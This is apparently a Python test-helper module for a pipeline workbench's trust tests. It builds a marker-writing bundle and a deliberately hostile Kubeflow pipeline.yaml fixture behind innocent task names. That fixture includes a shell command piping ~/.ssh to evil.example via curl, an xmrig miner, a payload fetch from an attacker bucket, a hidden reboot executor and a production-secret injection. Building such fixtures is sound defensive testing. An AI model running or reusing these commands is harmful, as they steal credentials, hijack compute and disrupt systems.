"""Bundles for the trust tests, built here: one whose single task leaves a mark on disk when it runs,
and a hostile `pipeline.yaml` that hides what it runs in every corner of the IR."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import yaml
from share_helpers import REPO, rebundle, replace

KFP_HEADER = "\nimport kfp\nfrom kfp import dsl\nfrom kfp.dsl import *\nfrom typing import *\n\n"
MINER_SOURCE = "def mine():\n    import os\n    os.system('xmrig --donate-level 0')\n"


def mark_graph(marker: Path):
    """A one-task document: `leave-mark` appends a line to `marker`."""
    from workbench.components.spec import ComponentSpec
    from workbench.model.document import Node, PipelineGraph, new_id

    graph = PipelineGraph("leave-mark")
    graph.add_component("leave-mark", ComponentSpec(name="leave-mark", implementation={"container": {
        "image": "python:3.11-slim", "command": ["sh", "-c", 'echo ran >> "$0"', str(marker)]}}))
    graph.add_node(Node(new_id(), "leave-mark", "leave-mark"))
    return graph


def bundle_files(path: Path) -> list[tuple[str, bytes]]:
    import zipfile

    with zipfile.ZipFile(path) as archive:
        return [(name, archive.read(name)) for name in archive.namelist()]


def with_pipeline(bundle: Path, text: str, out: Path) -> Path:
    """The bundle with another pipeline.yaml and a manifest that matches it (only the content lies)."""
    return rebundle(replace(bundle_files(bundle), "pipeline.yaml", text.encode()), out)


def hostile_ir() -> str:
    """A pipeline.yaml whose display names hide what runs: a secret-stealing shell task with env,
    resources and Kubernetes platform config, a miner in a sub-pipeline with embedded Python source,
    an importer, an executor no task uses, a DAG that contains itself and a task naming a missing component."""
    spec = {
        "pipelineInfo": {"name": "innocent-report"},
        "schemaVersion": "2.1.0",
        "defaultPipelineRoot": "gs://attacker-bucket/loot",
        "root": {
            "inputDefinitions": {"parameters": {"target": {"parameterType": "STRING", "defaultValue": "~/.ssh"}}},
            "dag": {"tasks": {
                "steal-keys": {"componentRef": {"name": "comp-steal"}, "taskInfo": {"name": "Friendly preprocessing"},
                               "inputs": {"parameters": {"url": {"runtimeValue": {
                                   "constant": "https://evil.example/upload"}}}}},
                "outer": {"componentRef": {"name": "comp-sub"}, "taskInfo": {"name": "outer"}},
                "forever": {"componentRef": {"name": "comp-self"}, "taskInfo": {"name": "forever"}},
                "ghost": {"componentRef": {"name": "comp-missing"}, "taskInfo": {"name": "ghost"}},
                "fetch": {"componentRef": {"name": "comp-fetch"}, "taskInfo": {"name": "fetch"}},
            }},
        },
        "components": {
            "comp-steal": {"executorLabel": "exec-steal"},
            "comp-sub": {"dag": {"tasks": {"inner-miner": {"componentRef": {"name": "comp-miner"},
                                                           "taskInfo": {"name": "Compute summary"}}}}},
            "comp-miner": {"executorLabel": "exec-miner"},
            "comp-fetch": {"executorLabel": "exec-fetch"},
            "comp-self": {"dag": {"tasks": {"again": {"componentRef": {"name": "comp-self"}}}}},
        },
        "deploymentSpec": {"executors": {
            "exec-steal": {"container": {
                "image": "evil.example/stealer:1", "command": ["sh", "-c"],
                "args": ["tar c ~/.ssh | curl --data-binary @- {{$.inputs.parameters['url']}}"],
                "env": [{"name": "AWS_PROFILE", "value": "production"}],
                "resources": {"cpuLimit": 64.0, "memoryLimit": 512.0, "resourceMemoryLimit": "512G"}}},
            "exec-miner": {"container": {
                "image": "python:3.11-slim",
                "command": ["sh", "-ec", 'python3 -c "$0"', KFP_HEADER + MINER_SOURCE],
                "args": ["--function_to_execute", "mine"]}},
            "exec-fetch": {"importer": {"artifactUri": {"constant": "gs://attacker-bucket/payload.bin"},
                                        "typeSchema": {"schemaTitle": "system.Artifact"}}},
            "exec-hidden": {"container": {"image": "evil.example/hidden:2", "command": ["sh", "-c", "reboot"]}},
        }},
    }
    platform = {"platforms": {"kubernetes": {"deploymentSpec": {"executors": {"exec-steal": {
        "secretAsEnv": [{"secretName": "prod-db-password", "keyToEnv": [{"secretKey": "password", "envVar": "PW"}]}],
        "pvcMount": [{"constant": "home-directory-pvc", "mountPath": "/root"}],
        "nodeSelector": {"labels": {"pool": "gpu-production"}},
    }}}}}}
    return yaml.safe_dump_all([spec, platform], sort_keys=True)


def workbench(*args, stdin=subprocess.DEVNULL, env=None) -> subprocess.CompletedProcess:
    """The real CLI in a subprocess, without a terminal on stdin (the data dir comes from the env)."""
    return subprocess.run([sys.executable, "-m", "workbench", *map(str, args)], capture_output=True, text=True,
                          cwd=REPO, timeout=300, stdin=stdin, env={**os.environ, "PYTHONPATH": str(REPO), **(env or {})})
